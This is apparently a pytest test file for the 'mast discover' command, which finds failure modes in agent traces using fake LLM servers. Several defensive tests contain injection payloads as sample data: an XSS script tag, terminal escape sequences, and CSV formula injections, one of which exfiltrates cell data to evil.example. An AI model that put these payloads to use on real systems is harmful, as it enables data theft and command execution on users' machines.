"""mast discover: planted domain failures found, refused, merged or kept, and the taxonomy used downstream.

The corpus and the scripted fake model are in tests/_discover_fake.py: every request is answered by
the prompt it carries (its schema), through the real litellm path against FakeLLMServer.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

sys.path.insert(0, str(Path(__file__).parent))
from _discover_fake import PLANTS, Scripted, plants_of, schema_of, write_corpus  # noqa: E402

import mast  # noqa: E402
from mast.cli import main  # noqa: E402
from mast.discovery import DiscoverOptions, discover  # noqa: E402
from mast.judge.prompt import load_prompts  # noqa: E402
from mast.results import read_results  # noqa: E402
from mast.testing import FakeLLMServer  # noqa: E402

PRICES = {"price_input": 1.0, "price_output": 1.0}
TWO_MODELS = ("openai/fake-a", "openai/fake-b")


def _ticket_of(trace_id: str, corpus: Path) -> int:
    for path in sorted(corpus.glob("*.json")):
        if mast.load_trace(path).trace_id == trace_id:
            return int(re.search(r"(\d+)", path.stem).group(1))  # type: ignore[union-attr]
    raise KeyError(trace_id)


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """One discovery on 30 SRE-like traces with two annotator models, then the same command again."""
    root = tmp_path_factory.mktemp("discover")
    corpus = write_corpus(root / "traces", n=30, filler=3)
    fake = Scripted()
    with FakeLLMServer(responder=fake) as server:
        judge = {"model": "openai/fake-judge", "api_base": server.base_url, "api_key": "x",
                 "cache_dir": root / "cache", **PRICES}
        options = DiscoverOptions(annotators=TWO_MODELS, window_tokens=300)
        first = discover([corpus], root / "out", options=options, **judge)
        calls = len(server.chat_requests)
        again = discover([corpus], root / "out", options=options, **judge)
        rerun_calls = len(server.chat_requests) - calls
        yield {"root": root, "corpus": corpus, "first": first, "again": again, "calls": calls,
               "rerun_calls": rerun_calls, "server": server, "fake": fake, "judge": judge}


def _by_name(result, word):
    found = [c for c in result.candidates if word in c.name]
    assert len(found) == 1, [c.name for c in result.candidates]
    return found[0]


def test_planted_namespace_failure_is_one_accepted_mode_with_examples_from_its_traces(run):
    result, corpus = run["first"], run["corpus"]
    assert [c.name for c in result.accepted] == ["Wrong Namespace Targeted"]
    mode = result.accepted[0]
    assert mode.relation == "new" or mode.relation.startswith("extends ")
    assert 2 <= len(mode.examples) <= 5
    assert len({e.trace_id for e in mode.examples}) == len(mode.examples)   # from different traces
    for example in mode.examples:
        assert "namespace" in plants_of(_ticket_of(example.trace_id, corpus))
        assert example.quote == PLANTS["namespace"]["step"]
        discover_part = result.manifest["split"]["discover"]
        assert example.trace_id in discover_part                          # built on the discover part only
    gate = mode.gate[0]
    assert gate.ci_low is not None and gate.ci_low >= 0.4 and gate.positives_a >= 3
    assert "accepted" in mode.reason and "kappa" in mode.reason


def test_code_planted_in_one_trace_is_refused_for_prevalence(run):
    pager = _by_name(run["first"], "on-call")
    assert pager.status == "refused" and pager.code is None
    assert "prevalence 1/" in pager.reason


def test_mode_the_annotators_disagree_on_at_random_is_revised_once_and_not_accepted(run):
    stale = _by_name(run["first"], "Stale")
    assert stale.status == "candidate"
    assert stale.revised and [g.round for g in stale.gate] == [0, 1]
    assert stale.definition.startswith("Revised:")
    assert all(g.ci_low is None or g.ci_low < 0.4 for g in stale.gate)
    assert "after one revision" in stale.reason and "kappa" in stale.reason
    assert run["fake"].asked.get("mast_candidate_revision") == 1


def test_mode_confused_with_another_is_merged(run):
    approval = _by_name(run["first"], "Approval")
    assert approval.status == "merged" and approval.merged_into == "1.1"
    assert approval.gate[0].confused_with == "1.1"
    assert "merged into MAST 1.1" in approval.reason


def test_outputs_manifest_and_report(run):
    out = run["root"] / "out"
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["status"] == "done"
    assert manifest["annotator_kind"] == "two different models"
    assert [a["model"] for a in manifest["annotators"]] == list(TWO_MODELS)
    assert set(manifest["split"]["discover"]).isdisjoint(manifest["split"]["gate"])
    first = run["first"].manifest                                # (the file on disk is the rerun's)
    assert first["totals"]["calls"] == run["calls"]               # every request the server answered
    assert first["totals"]["input_tokens"] > 0 and first["totals"]["cost_usd"] > 0
    assert first["per_trace"]["calls"] == round(run["calls"] / 30, 2)
    assert manifest["open_coding"]["open_coding"]["unverified_dropped"] == 0
    assert manifest["open_coding"]["open_coding"]["covered_by_mast"] > 0   # codes MAST explains are not new
    assert manifest["stability"][0]["matched"] is True
    assert manifest["saturation"][-1]["traces"] == len(manifest["split"]["discover"])
    candidates = yaml.safe_load((out / "candidates.yaml").read_text())["candidates"]
    assert {c["status"] for c in candidates} == {"accepted", "refused", "merged", "candidate"}
    page = (out / "report.html").read_text()
    assert "Wrong Namespace Targeted" in page and "traces.html#trace=" in page and "Stability" in page
    assert "<svg" in page and "src=\"http" not in page and "href=\"http" not in page


def test_rerun_makes_no_call_and_gives_the_same_decisions(run):
    assert run["rerun_calls"] == 0
    first, again = run["first"], run["again"]
    assert [(c.name, c.status, c.code) for c in again.candidates] == [(c.name, c.status, c.code) for c in first.candidates]
    assert again.manifest["totals"]["calls"] == 0 and again.manifest["totals"]["cached"] > 0


@pytest.mark.corpus  # validates on the mad-human set
def test_taxonomy_labels_a_folder_and_validate_and_evaluate_accept_it(run, tmp_path):
    out, corpus, server = run["root"] / "out", run["corpus"], run["server"]
    taxonomy_file = out / "taxonomy.yaml"
    taxonomy = mast.load_taxonomy(taxonomy_file)
    assert len(taxonomy.modes) == 15 and taxonomy.modes[-1].name == "Wrong Namespace Targeted"
    prompt = load_prompts(taxonomy).single
    assert "Wrong Namespace Targeted" in prompt and PLANTS["namespace"]["step"] in prompt  # definition + example
    assert load_prompts(mast.load_taxonomy()).hash != load_prompts(taxonomy).hash
    runner = CliRunner()
    common = ["--taxonomy", str(taxonomy_file), "--api-base", server.base_url, "--api-key", "x"]
    folder = tmp_path / "new-runs"                         # a folder of runs to label with the new taxonomy
    folder.mkdir()
    for path in sorted(corpus.glob("*.json"))[:10]:
        shutil.copy(path, folder / path.name)
    outputs = []
    for model in TWO_MODELS:
        results = tmp_path / f"{model.split('/')[1]}.jsonl"
        done = runner.invoke(main, ["label", str(folder), "-o", str(results), "--model", model, *common])
        assert done.exit_code == 0, done.output
        outputs.append(results)
    diagnoses = read_results(outputs[0])
    assert len(diagnoses) == 10
    code = taxonomy.modes[-1].code
    for diagnosis in diagnoses:
        ticket = _ticket_of(diagnosis.trace_id, corpus)
        assert (code in diagnosis.present_codes) == ("namespace" in plants_of(ticket))
    evaluated = runner.invoke(main, ["evaluate", "--pred", str(outputs[0]), "--pred", str(outputs[1]),
                                     "--taxonomy", str(taxonomy_file), "--json", "--n-boot", "0"])
    assert evaluated.exit_code == 0, evaluated.output
    per_mode = {m["code"]: m for m in json.loads(evaluated.output)["per_mode"]}
    assert per_mode[code]["kappa"] == 1.0
    validated = runner.invoke(main, ["validate", "--set", "mad-human", "--model", "openai/fake-a", *common,
                                     "-o", str(tmp_path / "validation"), "--n-boot", "0"])
    assert validated.exit_code == 0, validated.output
    assert f"Not assessed by this judge: {code}" in validated.output or code in validated.output


def test_failure_planted_past_the_first_window_is_found(tmp_path):
    corpus = write_corpus(tmp_path / "traces", n=12, filler=14, late=True)
    fake = Scripted(random_stale=False, confuse_approval=False)
    with FakeLLMServer(responder=fake) as server:
        # Discovery options as keywords, beside the judge's.
        result = discover([corpus], tmp_path / "out", model="openai/fake-judge", api_base=server.base_url,
                          api_key="x", annotators=TWO_MODELS, window_tokens=150, stability=False, min_positives=1)
    namespace = _by_name(result, "Namespace")
    assert namespace.examples
    late_windows = {t: w for t, w, named in fake.open_code_windows if "namespace" in named}
    assert late_windows and min(late_windows.values()) > 1                # only windows after the first saw it
    first_windows = [named for t, w, named in fake.open_code_windows if w == 1]
    assert first_windows and not any(first_windows)
    tickets = {_ticket_of(e.trace_id, corpus) for e in namespace.examples}
    assert tickets <= set(late_windows)


def test_dry_run_budget_stop_and_resume(tmp_path):
    corpus = write_corpus(tmp_path / "traces", n=12, filler=2)
    fake = Scripted(b_model="__seed2__")   # same model, two seeds: B is never told apart here
    runner = CliRunner()
    with FakeLLMServer(responder=fake) as server:
        args = ["discover", str(corpus), "-o", str(tmp_path / "out"), "--model", "openai/fake-judge",
                "--api-base", server.base_url, "--api-key", "x", "--price-input", "1", "--price-output", "1",
                "--no-stability", "--min-positives", "1"]
        dry = runner.invoke(main, [*args, "--dry-run", "--json"])
        assert dry.exit_code == 0, dry.output
        plan = json.loads(dry.output)
        assert server.chat_requests == []
        assert plan["traces"] == 12 and plan["stages"]["mast14"]["calls"] == 12
        assert plan["stages"]["gate"]["calls"] == 2 * plan["gate"] and plan["stages"]["gate"]["cost_usd"] > 0
        stopped = runner.invoke(main, [*args, "--budget-usd", "0.02"])
        assert stopped.exit_code == 1, stopped.output
        manifest = json.loads((tmp_path / "out" / "manifest.json").read_text())
        assert manifest["status"] == "stopped" and manifest["stopped"].startswith("budget")
        assert manifest["totals"]["cost_usd"] <= 0.02
        spent = len(server.chat_requests)
        assert 0 < spent
        done = runner.invoke(main, args)
        assert done.exit_code == 0, done.output
        resumed = json.loads((tmp_path / "out" / "manifest.json").read_text())
        assert resumed["status"] == "done"
        # The spend of both runs is recorded, each and in all.
        assert [r["status"] for r in resumed["runs"]] == ["stopped", "done"]
        assert resumed["runs"][0]["totals"] == manifest["totals"] and resumed["runs"][1]["totals"] == resumed["totals"]
        assert resumed["cumulative"]["calls"] == manifest["totals"]["calls"] + resumed["totals"]["calls"]
        assert resumed["cumulative"]["cost_usd"] == pytest.approx(manifest["totals"]["cost_usd"]
                                                                  + resumed["totals"]["cost_usd"])
        manifest = resumed
        assert "weaker test" in manifest["annotator_kind"]
        assert {a["seed"] for a in manifest["annotators"]} == {1, 2}
        assert {a["temperature"] for a in manifest["annotators"]} == {0.7}
        # What the stopped run did was not asked again: MAST-14 judged each trace once in all.
        mast14 = [r for r in server.chat_requests if not r.body.get("temperature")
                  and "mast_diagnosis" in json.dumps(r.body.get("response_format") or r.body.get("tools") or "")]
        assert len(mast14) == 12
        seeds = {r.body.get("seed") for r in server.chat_requests if r.body.get("temperature") == 0.7}
        assert seeds == {1, 2}
        total = len(server.chat_requests)
        rerun = runner.invoke(main, args)
        assert rerun.exit_code == 0 and len(server.chat_requests) == total
        last = json.loads((tmp_path / "out" / "manifest.json").read_text())
        assert len(last["runs"]) == 3 and last["runs"][2]["totals"]["calls"] == 0
        assert last["cumulative"]["calls"] == resumed["cumulative"]["calls"]


def test_sheet_then_gate_against_people(tmp_path):
    corpus = write_corpus(tmp_path / "traces", n=16, filler=2)
    fake = Scripted()
    with FakeLLMServer(responder=fake) as server:
        judge = {"model": "openai/fake-judge", "api_base": server.base_url, "api_key": "x"}
        sheet_run = discover([corpus], tmp_path / "out", options=DiscoverOptions(sheet=True), **judge)
        assert sheet_run.stopped and sheet_run.taxonomy is None
        sheet = tmp_path / "out" / "sheet.csv"
        rows = list(csv.DictReader(sheet.open()))
        assert rows and {r["present"] for r in rows} == {""}
        # People label the namespace mode as planted (and every other candidate absent).
        for row in rows:
            planted = plants_of(_ticket_of(row["trace_id"], corpus))
            row["present"] = "1" if "Namespace" in row["name"] and "namespace" in planted else "0"
        with sheet.open("w", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
        gated = discover([corpus], tmp_path / "out2", options=DiscoverOptions(gold=str(sheet), stability=False,
                                                                             min_positives=2), **judge)
    assert [c.name for c in gated.accepted] == ["Wrong Namespace Targeted"]
    assert gated.manifest["annotator_kind"].endswith("against people (--gold)")


def test_readme_worked_example_on_the_repository_examples(tmp_path, monkeypatch):
    """The docs' `mast discover` lines (docs/how-to/discover.md) on data/examples, with the scripted model: the output it shows."""
    from _discover_fake import ExamplesScripted

    section = (Path(__file__).resolve().parent.parent / "docs" / "how-to" / "discover.md").read_text()
    commands = [line for line in re.findall(r"```bash\n(.*?)```", section, flags=re.S)[0].splitlines() if line]
    shown = re.findall(r"```text\n(.*?)```", section, flags=re.S)[0].strip()
    examples = Path(__file__).resolve().parent.parent / "data" / "examples"
    monkeypatch.chdir(tmp_path)
    shutil.copytree(examples, tmp_path / "data" / "examples")
    runner = CliRunner()
    with FakeLLMServer(responder=ExamplesScripted()) as server:
        monkeypatch.setenv("MAST_API_BASE", server.base_url)
        monkeypatch.setenv("OPENAI_API_KEY", "test-key")
        outputs = []
        for command in commands:
            done = runner.invoke(main, command.split()[1:])
            assert done.exit_code == 0, f"{command}\n{done.output}"
            outputs.append(done.output)
        assert shown in outputs[1]
        assert "9 traces: 5 to discover on, 4 to gate on" in outputs[0]
    labelled = read_results(tmp_path / "results.jsonl")
    assert len(labelled) == 9 and all(d.judge.taxonomy_version.startswith("mast-v3+discovered-") for d in labelled)
    assert (tmp_path / "discovered" / "traces.html").is_file()


def test_results_file_is_reused_instead_of_judging_again(run):
    root = run["root"]
    before = len(run["server"].chat_requests)
    reused = discover([run["corpus"]], root / "out-reused", results=root / "out" / "work" / "mast14.jsonl",
                      options=DiscoverOptions(annotators=TWO_MODELS, window_tokens=300), **run["judge"])
    assert "mast14" not in reused.manifest["stages"]
    assert [c.name for c in reused.accepted] == ["Wrong Namespace Targeted"]
    assert len(run["server"].chat_requests) == before       # the rest answered from the cache
    with pytest.raises(mast.UsageError, match="taxonomy"):
        discover([run["corpus"]], root / "out-bad", results=root / "out" / "work" / "gate-a-r0.jsonl",
                 options=DiscoverOptions(annotators=TWO_MODELS), **run["judge"])


def test_an_open_coding_call_that_never_answers_validly_is_noted_and_the_run_goes_on(tmp_path):
    corpus = write_corpus(tmp_path / "traces", n=8, filler=1)
    scripted = Scripted()
    spoilt: list[str] = []

    def responder(body):
        if schema_of(body) == "mast_open_codes" and (not spoilt or spoilt[0] in json.dumps(body)):
            spoilt.append(re.search(r"Ticket T\d+", json.dumps(body)).group(0))  # type: ignore[union-attr]
            return "not json at all"        # every answer for this one trace's window is invalid
        return scripted(body)

    with FakeLLMServer(responder=responder) as server:
        result = discover([corpus], tmp_path / "out", model="openai/fake-judge", api_base=server.base_url,
                          api_key="x", max_reasks=0,
                          options=DiscoverOptions(annotators=TWO_MODELS, stability=False))
    assert result.stopped is None and result.manifest["status"] == "done"
    assert result.manifest["open_coding"]["open_coding"]["windows_failed"] == 1
    assert any("1 windows got no valid answer" in note for note in result.manifest["notes"])


def test_a_group_the_namer_finds_incoherent_is_refused_as_a_catch_all():
    import asyncio

    from mast.discovery import stages
    from mast.discovery._llm import CandidateAnswer, load_discover_prompts
    from mast.discovery.models import OpenCode

    class Namer:
        backend = None

        async def call(self, stage, messages, spec):
            return CandidateAnswer(name="Agent made mistakes", definition="Something went wrong.", coherent=False)

    codes = [OpenCode(trace_id=f"t{i}", step=1, quote="q", label="agent made a mistake",
                      description="the agent made a mistake") for i in range(4)]
    groups = stages.group_codes(codes, threshold=0.8)
    tax = mast.load_taxonomy()
    found = asyncio.run(stages.consolidate(Namer(), load_discover_prompts(tax), groups, tax, 4,
                                           stages.ConsolidateOptions(min_traces=2), stage="naming"))
    assert len(found) == 1 and found[0].status == "refused" and found[0].reason.startswith("catch-all")


def test_report_escapes_every_text_from_traces_and_models():
    from mast.discovery.models import Candidate, Example
    from mast.discovery.run import DiscoveryResult
    from mast.discovery.write import report_html

    hostile = "<script>alert(1)</script>"
    candidate = Candidate(group=0, code="4.1", name=hostile, definition=f"a & b {hostile}", when_to_use=hostile,
                          n_codes=2, n_traces=2, prevalence=0.5, cohesion=0.5, status="accepted", reason=hostile,
                          examples=[Example(trace_id=f't"><{hostile}', step=1, quote=f"</blockquote>{hostile}")])
    manifest = {"traces": 4, "base_taxonomy": "mast-v3", "judge": {"model": hostile},
                "split": {"seed": 0, "discover": ["a", "b"], "gate": ["c", "d"]}, "annotator_kind": hostile,
                "options": {"min_kappa": 0.4, "min_positives": 3},
                "stages": {hostile: {"calls": 1, "cached": 0, "input_tokens": 1, "output_tokens": 1, "cost_usd": None}},
                "totals": {"calls": 1, "cached": 0, "input_tokens": 1, "output_tokens": 1, "cost_usd": None}}
    page = report_html(DiscoveryResult(output=Path("out"), candidates=[candidate], taxonomy=None, manifest=manifest,
                                       stopped=hostile))
    assert "<script" not in page and "</blockquote><" not in page
    assert page.count("&lt;script&gt;") >= 7
    assert 'href="traces.html#trace=t%22%3E%3C%3Cscript%3E' in page


def test_a_provider_that_answers_nothing_valid_stops_the_run_with_one_line(tmp_path):
    corpus = write_corpus(tmp_path / "traces", n=5, filler=1)
    with FakeLLMServer(responder=lambda body: "no json here") as server:
        done = CliRunner().invoke(main, ["discover", str(corpus), "-o", str(tmp_path / "out"), "--model",
                                         "openai/fake-judge", "--api-base", server.base_url, "--api-key", "x",
                                         "--max-reasks", "0"])
    assert done.exit_code == 1
    assert "no trace could be judged with MAST-14" in done.output and "Traceback" not in done.output


def test_two_candidates_the_annotators_swap_are_merged_and_gated_together(run):
    # The same corpus and cache as the module's run (MAST-14, open codes, names and annotator A are
    # answered from it); a new annotator C calls a skipped approval a stale metric, and stale metrics
    # truly where they are.
    fake = Scripted(b_model="fake-c", random_stale=False, confuse_approval="stale")
    server = run["server"]  # the same endpoint (it is part of the cache key), answering as annotator C now
    module_fake, server.responder = server.responder, fake
    try:
        result = discover([run["corpus"]], run["root"] / "out-swap", annotators=("openai/fake-a", "openai/fake-c"),
                          window_tokens=300, stability=False, **run["judge"])
    finally:
        server.responder = module_fake
    assert fake.asked.get("mast_open_codes") is None            # the cache answered the discovery's own calls
    stale, approval = _by_name(result, "Stale"), _by_name(result, "Approval")
    assert approval.status == "merged" and approval.merged_into == stale.code
    assert stale.gate[0].confused_with == approval.code and stale.gate[0].disagreements > 0
    merged = stale.gate[-1]
    assert merged.disagreements == 0 and stale.status == "accepted" and f"merging {approval.code}" in stale.reason
    assert {e.trace_id for e in approval.examples} & {e.trace_id for e in stale.examples}


@pytest.mark.parametrize("budget", [[], ["--budget-usd", "5", "--price-input", "1", "--price-output", "1"]])
def test_unreachable_server_is_its_own_one_line_error_not_a_budget_stop(tmp_path, budget):
    import socket

    with socket.socket() as sock:   # a port nothing listens on
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    corpus = write_corpus(tmp_path / "traces", n=6, filler=1)
    result = CliRunner().invoke(main, ["discover", str(corpus), "-o", str(tmp_path / "out"), "-j", "1",
                                       "--model", "openai/x", "--api-key", "x", "--max-retries", "0",
                                       "--api-base", f"http://127.0.0.1:{port}/v1", *budget])
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and "cannot connect" in lines[0], result.output
    assert "budget" not in result.output and "TypeError" not in result.output
    assert result.exit_code == 1


def test_model_given_names_lose_terminal_escapes_in_candidates_taxonomy_and_output(tmp_path):
    corpus = write_corpus(tmp_path / "traces", n=12, filler=1)
    scripted = Scripted(random_stale=False, confuse_approval=False)
    evil = "\x1b]0;PWNED\x07\x1b[2J"

    def responder(body):
        answer = scripted(body)
        if schema_of(body) == "mast_candidate_mode":
            answer = {**answer, "name": evil + answer["name"], "definition": answer["definition"] + evil}
        return answer

    with FakeLLMServer(responder=responder) as server:
        done = CliRunner().invoke(main, ["discover", str(corpus), "-o", str(tmp_path / "out"), "--no-stability",
                                         "--model", "openai/fake-judge", "--api-base", server.base_url,
                                         "--api-key", "x", "--annotators", ",".join(TWO_MODELS)])
    assert done.exit_code == 0, done.output
    assert "Wrong Namespace Targeted" in done.output and "\x1b" not in done.output and "PWNED" not in done.output
    written = (tmp_path / "out" / "taxonomy.yaml").read_text()
    assert "\x1b" not in written and "\\e" not in written and "PWNED" not in written
    assert mast.load_taxonomy(tmp_path / "out" / "taxonomy.yaml").modes[-1].name == "Wrong Namespace Targeted"


def test_an_answer_longer_than_its_schema_allows_is_cut_before_it_is_cached(tmp_path):
    corpus = write_corpus(tmp_path / "traces", n=6, filler=1)
    scripted = Scripted()

    def responder(body):
        answer = scripted(body)
        if schema_of(body) == "mast_open_codes":
            answer = {**answer, "summary": "x" * 1_000_000,
                      "codes": [{**c, "description": "y" * 5000} for c in answer["codes"]]}
        return answer

    with FakeLLMServer(responder=responder) as server:
        result = discover([corpus], tmp_path / "out", model="openai/fake-judge", api_base=server.base_url,
                          api_key="x", cache_dir=tmp_path / "cache",
                          options=DiscoverOptions(annotators=TWO_MODELS, stability=False))
    assert result.manifest["open_coding"]["open_coding"]["codes"] > 0
    stored = sum(p.stat().st_size for p in (tmp_path / "cache").rglob("*") if p.is_file())
    assert stored < 1_000_000                               # the megabyte summary is not kept
    assert all(len(c.definition) <= 500 for c in result.candidates)


def test_a_resume_without_the_cache_asks_no_discovery_call_again(tmp_path):
    corpus = write_corpus(tmp_path / "traces", n=8, filler=1)
    with FakeLLMServer(responder=Scripted()) as server:
        judge = {"model": "openai/fake-judge", "api_base": server.base_url, "api_key": "x"}
        options = DiscoverOptions(annotators=TWO_MODELS, stability=False)
        first = discover([corpus], tmp_path / "out", cache_dir=tmp_path / "cache", options=options, **judge)
        asked = len(server.chat_requests)
        again = discover([corpus], tmp_path / "out", cache=False, options=options, **judge)
    assert (tmp_path / "out" / "work" / "answers.jsonl").stat().st_size > 0
    assert len(server.chat_requests) == asked       # open codes, names and the rest came from DIR/work/
    assert again.manifest["totals"]["calls"] == 0
    assert [c.name for c in again.candidates] == [c.name for c in first.candidates]


def test_discover_says_how_many_codes_and_candidates_were_dropped_for_each_reason(tmp_path):
    # A coder whose quotes are mostly not in the trace (paraphrased), one code without a quote and one
    # label repeated: the CLI line, the manifest and the report count each reason (issue 33, point 10).
    corpus = write_corpus(tmp_path / "traces", n=8, filler=1)
    scripted = Scripted()

    def responder(body):
        answer = scripted(body)
        if schema_of(body) == "mast_open_codes" and answer["codes"]:
            codes = [{**code, "quote": "paraphrase: " + code["quote"][::-1]} for code in answer["codes"]]
            codes.append({**codes[0], "quote": " "})
            codes.append(dict(answer["codes"][0]))
            codes.append(dict(answer["codes"][0]))     # the same label again: kept once
            answer = {**answer, "codes": codes}
        return answer

    with FakeLLMServer(responder=responder) as server:
        done = CliRunner().invoke(main, [
            "discover", str(corpus), "-o", str(tmp_path / "out"), "--model", "openai/fake-judge",
            "--api-base", server.base_url, "--api-key", "x", "--no-stability", "--max-reasks", "0"])
    assert done.exit_code == 0, done.output
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text())
    drops = manifest["dropped"]
    coded = manifest["open_coding"]["open_coding"]
    assert drops["codes"]["unverified_dropped"] == coded["unverified_dropped"] > 0
    assert drops["codes"]["no_quote_dropped"] == coded["no_quote_dropped"] > 0
    assert drops["codes"]["repeated_dropped"] == coded["repeated_dropped"] > 0
    assert sum(drops["candidates"].values()) == sum(
        1 for c in yaml.safe_load((tmp_path / "out" / "candidates.yaml").read_text())["candidates"]
        if c["status"] == "refused")
    line = next(line for line in done.output.splitlines() if "dropped codes:" in line)
    assert f"{coded['unverified_dropped']} quote not found in the trace" in line
    assert f"{coded['no_quote_dropped']} no quote" in line and "refused candidates:" in line
    page = (tmp_path / "out" / "report.html").read_text()
    assert "<h2>Dropped</h2>" in page and "quote not found in the trace" in page


def test_the_sheet_goes_through_the_safe_csv_writer_and_the_report_carries_the_csp(tmp_path):
    """A trace id or a model-named mode that opens a formula lands inert in sheet.csv; report.html has the strict CSP."""
    from mast.discovery.models import Candidate
    from mast.discovery.run import DiscoveryResult
    from mast.discovery.write import report_html, sheet
    from mast.trace import Step, Trace

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    trace = Trace(trace_id=hostile, steps=[Step(index=0, agent="a", content=hostile)])
    candidate = Candidate(group=0, code="4.1", name="@SUM(1+1)", definition="+cmd|' /C calc'!A0", n_codes=2,
                          n_traces=2, prevalence=0.5, cohesion=0.5)
    path = sheet(tmp_path, [candidate], [trace], mast.load_taxonomy())
    (row,) = list(csv.DictReader(path.open(newline="")))
    assert row["trace_id"] == "'" + hostile and row["name"] == "'@SUM(1+1)"
    assert row["definition"].startswith("'+cmd") and row["code"] == "4.1" and row["present"] == ""
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())

    manifest = {"traces": 1, "base_taxonomy": "mast-v3", "judge": {"model": "m"}, "split": {},
                "annotator_kind": "k", "options": {"min_kappa": 0.4, "min_positives": 3}, "stages": {},
                "totals": {"calls": 0, "cached": 0, "input_tokens": 0, "output_tokens": 0, "cost_usd": None}}
    page = report_html(DiscoveryResult(output=Path("out"), candidates=[candidate], taxonomy=None, manifest=manifest,
                                       stopped=None))
    head = page.split("</head>")[0]
    (policy,) = re.findall(r"<meta http-equiv='Content-Security-Policy' content=\"([^\"]+)\">", head)
    assert "default-src &#x27;none&#x27;" in policy and "script-src &#x27;none&#x27;" in policy
    assert head.index("Content-Security-Policy") < head.index("<style>")
